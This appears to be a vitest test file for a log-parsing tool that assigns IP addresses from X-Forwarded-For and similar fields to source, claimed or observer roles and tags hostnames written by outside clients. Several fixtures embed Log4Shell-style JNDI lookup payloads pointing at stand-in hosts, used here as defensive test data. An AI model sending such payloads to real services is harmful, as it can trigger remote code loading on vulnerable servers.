// What an outside client wrote is claimed, and the client is found among the addresses of X-Forwarded-For.
import { describe, expect, it } from 'vitest'
import { openFormats } from '../../../../src/app/open-formats.js'
import { parseRange } from '../../../../src/domain/address.js'
import { createRangeSet } from '../../../../src/domain/range-set.js'
import { decode, decodeLimits } from '../../../../src/pipeline/decode.js'
import { createExtract, extractLimits } from '../../../../src/pipeline/extract/extract.js'

const { formats } = openFormats([])
const rangesOf = (...texts: readonly string[]) => createRangeSet(texts.flatMap((text) => parseRange(text) ?? []))
const read = (line: string | object, proxies: readonly string[] = [], own: readonly string[] = []): string[] => {
  const extract = createExtract({
    ...extractLimits,
    formats,
    trustedProxies: rangesOf(...proxies),
    ownRanges: rangesOf(...own),
  })
  const text = typeof line === 'string' ? line : JSON.stringify(line)
  return extract(decode(Buffer.from(text), decodeLimits)).sightings.map(({ value, role }) => `${value} ${role}`)
}
const web = (peer: string, forwarded?: string, agent = 'curl/8.0', path = '/', referrer = '-'): string =>
  `${peer} - - [15/Nov/2026:10:00:00 +0000] "GET ${path} HTTP/1.1" 200 12 "${referrer}" "${agent}"${forwarded === undefined ? '' : ` "${forwarded}"`}`

describe('X-Forwarded-For', () => {
  it.each<[string, string, string, readonly string[], readonly string[]]>([
    [
      'one address behind a private proxy',
      '10.0.0.2',
      '198.51.100.7',
      [],
      ['198.51.100.7 source', '10.0.0.2 observer'],
    ],
    [
      'what the client wrote before its own address',
      '10.0.0.2',
      '203.0.113.9, 198.51.100.7',
      [],
      ['203.0.113.9 claimed', '198.51.100.7 source', '10.0.0.2 observer'],
    ],
    [
      'private hops behind the client',
      '10.0.0.2',
      '198.51.100.7, 10.0.0.8',
      [],
      ['198.51.100.7 source', '10.0.0.2 observer', '10.0.0.8 observer'],
    ],
    [
      'a client that writes the header itself',
      '198.51.100.7',
      '203.0.113.9',
      [],
      ['198.51.100.7 source', '203.0.113.9 claimed'],
    ],
    [
      'a trusted proxy with a public address',
      '192.0.2.1',
      '198.51.100.7',
      ['192.0.2.0/24'],
      ['198.51.100.7 source', '192.0.2.1 observer'],
    ],
    [
      'a trusted proxy within the header',
      '10.0.0.2',
      '198.51.100.7, 192.0.2.1',
      ['192.0.2.0/24'],
      ['198.51.100.7 source', '192.0.2.1 observer', '10.0.0.2 observer'],
    ],
    ['private addresses alone', '10.0.0.2', '10.0.0.8', [], ['10.0.0.8 source', '10.0.0.2 observer']],
  ])('is read from the right: %s', (_, peer, forwarded, proxies, expected) => {
    expect(read(web(peer, forwarded), proxies).toSorted()).toEqual([...expected].toSorted())
    const event = { remote_addr: peer, x_forwarded_for: forwarded, request: 'GET / HTTP/1.1', status: 200 }
    expect(read(event, proxies).toSorted()).toEqual([...expected].toSorted())
  })

  it('is read as a list too, and behind its name in a sentence', () => {
    const audit = {
      apiVersion: 'audit.k8s.io/v1',
      user: { username: 'alice' },
      sourceIPs: ['198.51.100.7', '10.0.0.2'],
    }
    expect(read(audit)).toEqual(['198.51.100.7 source', '10.0.0.2 observer'])
    expect(read(`${web('10.0.0.2')} X-Forwarded-For="203.0.113.9, 198.51.100.7"`)).toContain('203.0.113.9 claimed')
  })
})

describe('a claim of an outside client', () => {
  it.each([
    ['the referrer', web('198.51.100.7', undefined, 'curl/8.0', '/', 'https://www.example.net/a')],
    ['a lookup in the user agent', web('198.51.100.7', undefined, '${jndi:ldap://www.example.net:1389/a}')],
    ['a lookup in the request', web('198.51.100.7', undefined, 'curl/8.0', '/?x=${jndi:dns://www.example.net/a}')],
    [
      'an escaped URL in the request',
      web('198.51.100.7', undefined, 'curl/8.0', '/?x=http%3A%2F%2Fwww.example.net%2Fa'),
    ],
    ['the host that it asks for', { client_ip: '198.51.100.7', method: 'GET', host: 'www.example.net', uri: '/' }],
    ['the server name of TLS', { src_ip: '198.51.100.7', dest_ip: '10.0.0.5', tls: { sni: 'www.example.net' } }],
    ['HELO', { src_ip: '198.51.100.7', dest_ip: '10.0.0.5', helo: 'www.example.net' }],
    [
      'the name of a login that fails',
      'Failed password for invalid user a@www.example.net from 198.51.100.7 port 40032 ssh2',
    ],
  ])('is %s', (_, line) => {
    expect(read(line)).toContain('www.example.net claimed')
    expect(read(line)).toContain('198.51.100.7 source')
  })

  it('is nothing that a client inside wrote', () => {
    expect(read(web('10.0.0.5', undefined, 'curl/8.0', '/', 'https://www.example.net/a'))).toContain(
      'www.example.net url',
    )
    const own = web('198.51.100.7', undefined, '${jndi:ldap://bad.example.net/a}', '/', 'https://www.example.net/a')
    expect(read(own, [], ['198.51.100.0/24'])).toEqual(['198.51.100.7 source', 'www.example.net url'])
  })

  it('is no name of a login that succeeded', () => {
    expect(read('Accepted password for a@www.example.net from 198.51.100.7 port 40032 ssh2')).toContain(
      'www.example.net mail',
    )
  })
})
